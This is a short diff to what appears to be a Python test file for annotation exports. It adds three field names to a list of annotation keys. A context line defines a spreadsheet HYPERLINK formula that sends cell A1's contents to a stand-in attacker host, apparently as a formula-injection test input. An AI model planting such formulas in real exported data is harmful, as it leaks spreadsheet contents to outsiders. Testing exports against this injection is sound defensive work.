@@ -29,7 +29,8 @@ from tests.helpers import label
 
 ANNOTATION_KEYS = [
     "annotator", "source", "source_mention", "source_reliability", "info_credibility",
-    "admiralty_code", "labels", "note", "submitted_at",
+    "admiralty_code", "labels", "note", "submitted_at", "source_mention_span",
+    "guidelines_version", "seconds_spent",
 ]  # fmt: skip
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
 
